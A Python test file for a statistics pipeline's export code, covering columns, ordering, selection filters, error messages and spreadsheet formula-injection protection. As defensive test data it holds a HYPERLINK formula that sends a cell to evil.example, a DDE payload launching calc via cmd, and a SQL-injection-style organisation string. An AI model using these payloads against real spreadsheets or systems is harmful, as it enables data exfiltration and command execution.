"""Exports: tidy, complete, of the selection that was asked for, and harmless in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipelines import loading
from pipelines.errors import PipelineError
from pipelines.export import Format, Selection, harmless, observations, write
from pipelines.schemas import COLUMNS, KEY
from pipelines.settings import Settings
from tests import made, templates

PROMISED = (
    "indicator_id org_code org_type period_start period_end ethnicity_scheme ethnicity_code ethnicity_label group_level numerator "
    "denominator value lower_ci upper_ci cell_state publication_status source extract_sha256"
).split()
LIVE = "=+-@\t\r\n\x00＝＋－＠﹦﹢﹣﹫"


FORMATS: tuple[Format, ...] = ("csv", "json", "parquet")


EVERYTHING = Selection()


def export(data_dir: Path, form: Format = "csv", selection: Selection = EVERYTHING) -> bytes:
    out = io.BytesIO()
    write(observations(data_dir, selection), form, out)
    return out.getvalue()


def read_csv(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))


def frame_of(content: bytes, form: Format) -> pl.DataFrame:
    if form == "parquet":
        return pl.read_parquet(content)
    if form == "json":
        return pl.DataFrame(json.loads(content), infer_schema_length=None)
    return pl.read_csv(content, infer_schema_length=None)


# ------------------------------------------------------------------------------------------------------------- What is in it


@pytest.mark.parametrize("form", FORMATS)
def test_every_format_has_every_observation_and_every_promised_column(form: Format, small_release: Path) -> None:
    found = frame_of(export(small_release, form), form)
    assert set(PROMISED) <= set(found.columns)
    assert found.columns == COLUMNS
    whole = made.observations(small_release)
    assert found.select(pl.col(*KEY, "value", "lower_ci", "source_row").cast(pl.String)).equals(
        whole.select(pl.col(*KEY, "value", "lower_ci", "source_row").cast(pl.String))
    )


def test_parquet_keeps_types(small_release: Path) -> None:
    found = frame_of(export(small_release, "parquet"), "parquet")
    assert found.equals(made.observations(small_release))
    assert [found.schema[name] for name in ("period_start", "value", "source_row")] == [pl.Date, pl.Float64, pl.Int64]


def test_rows_come_in_the_order_of_their_key(small_release: Path) -> None:
    keys = [tuple(row[name] for name in KEY) for row in read_csv(export(small_release))]
    assert keys == sorted(keys)


def test_a_value_that_is_not_there_is_empty_with_its_state_beside_it(small_release: Path) -> None:
    rows = read_csv(export(small_release))
    (hidden,) = [row for row in rows if row["cell_state"] == "suppressed"]
    assert (hidden["value"], hidden["numerator"], hidden["lower_ci"]) == ("", "", "")
    assert hidden["state_reason"]
    (nought,) = [row for row in rows if row["cell_state"] == "true_zero"]
    assert float(nought["value"]) == 0
    assert {row["cell_state"] for row in rows} == {"observed", "suppressed", "true_zero", "unreliable"}
    assert all(row["value"] for row in rows if row["cell_state"] in {"observed", "unreliable"})


def test_numbers_stay_numbers_and_are_those_of_the_release(small_release: Path) -> None:
    whole = made.observations(small_release)
    numbers = [name for name, kind in whole.schema.items() if kind.is_numeric()]
    for row, observed in zip(read_csv(export(small_release)), whole.to_dicts(), strict=True):
        for name in numbers:
            assert (float(row[name]) if row[name] else None) == observed[name]


# --------------------------------------------------------------------------------------------------------------- Selection


@pytest.mark.parametrize(
    ("selection", "rows", "codes"),
    [
        (Selection(indicator="tt_reliable_recovery"), 42, {"E92000001", "RYG", "TAH"}),
        (Selection(site="sheffield"), 14, {"TAH"}),
        (Selection(site=" Sheffield "), 14, {"TAH"}),
        (Selection(org="RYG"), 14, {"RYG"}),
        (Selection(org=" ryg "), 14, {"RYG"}),
        (Selection(org="England"), 14, {"E92000001"}),
        (Selection(org="TAH", site="sheffield", indicator="tt_reliable_recovery"), 14, {"TAH"}),
        (Selection(org="RYG", site="sheffield"), 0, set()),
        (Selection(indicator="mha_detentions"), 0, set()),
    ],
)
def test_a_selection_is_what_was_asked_for(selection: Selection, rows: int, codes: set[str], small_release: Path) -> None:
    found = read_csv(export(small_release, selection=selection))
    assert len(found) == rows
    assert {row["org_code"] for row in found} == codes


@pytest.mark.parametrize("form", FORMATS)
def test_an_empty_selection_is_a_whole_file_without_rows(form: Format, small_release: Path) -> None:
    content = export(small_release, form, Selection(org="RYG", site="sheffield"))
    if form == "json":
        assert json.loads(content) == []
    else:
        found = frame_of(content, form)
        assert (found.height, found.columns) == (0, COLUMNS)


@pytest.mark.parametrize(
    ("selection", "words"),
    [
        (Selection(indicator="tt_recovry"), "There is no indicator 'tt_recovry'. Known are: .*tt_reliable_recovery"),
        (Selection(indicator=""), "There is no indicator ''. Known are: "),
        (Selection(site="Leeds"), "There is no site 'Leeds'. Known are: .*sheffield"),
        (Selection(site=""), "There is no site ''. Known are: "),
        (Selection(org="XYZ"), r"nothing about an organisation 'XYZ'. It has: E92000001, RYG, TAH\.$"),
        (Selection(org=""), "nothing about an organisation ''. It has: "),
        (Selection(org="RYG' or '1'='1"), "nothing about an organisation"),
    ],
)
def test_what_is_not_known_is_told_with_what_is(selection: Selection, words: str, small_release: Path) -> None:
    with pytest.raises(PipelineError, match=words):
        export(small_release, selection=selection)


def test_without_a_release_there_is_nothing_to_export(tmp_path: Path) -> None:
    with pytest.raises(PipelineError, match=r"There is no release yet\. Load a file first"):
        export(tmp_path)


# ------------------------------------------------------------------------------------------------------- In a spreadsheet


def test_text_of_a_publisher_is_never_run_by_a_spreadsheet(tmp_path: Path, settings: Settings) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    rows = [templates.row(publication=formula, licence="@SUM(1+1)*cmd|' /C calc'!A0"), templates.row(ethnicity="white", publication="-2+3")]
    loading.load([templates.write(tmp_path / "figures.csv", rows)], settings)
    cells = read_csv(export(settings.data_dir))
    assert {cell["source"] for cell in cells} == {f"'{formula}, 2024-25", "'-2+3, 2024-25"}
    assert cells[0]["licence"].startswith("'@SUM")
    assert all(not value.startswith(tuple(LIVE)) for cell in cells for value in cell.values())
    for form in FORMATS[1:]:
        found = frame_of(export(settings.data_dir, form), form)
        assert sorted(found["source"].to_list()) == ["-2+3, 2024-25", f"{formula}, 2024-25"]


def made_harmless(text: str | None) -> str | None:
    return pl.DataFrame({"text": [text]}, schema={"text": pl.String}).select(harmless(pl.col("text"))).item()


def unseen(character: str) -> bool:
    return character.isspace() or unicodedata.category(character) in {"Cc", "Cf", "Cn", "Co", "Zs"} or character in "'\""


ANYTHING = st.text(st.characters(exclude_categories=["Cs"]))
UNSEEN = st.text(st.sampled_from(" \u00a0\u200b\ufeff\u2060'\"\v"), max_size=3)


@given(UNSEEN, st.sampled_from(LIVE), ANYTHING)
def test_whatever_begins_like_a_formula_behind_whatever_is_not_seen_gets_a_quote(before: str, mark: str, rest: str) -> None:
    if before and mark in "\t\r\n\x00":  # these are run only where they stand first
        return
    assert made_harmless(before + mark + rest) == "'" + before + mark + rest


@given(ANYTHING)
def test_any_other_text_is_left_as_it_is(text: str) -> None:
    begins = text.lstrip("".join({character for character in text if unseen(character)}))[:1]
    if begins not in set(LIVE) | {""} and text[0] not in LIVE:
        assert made_harmless(text) == text


def test_nothing_stays_nothing() -> None:
    assert made_harmless(None) is None
    assert made_harmless("") == ""
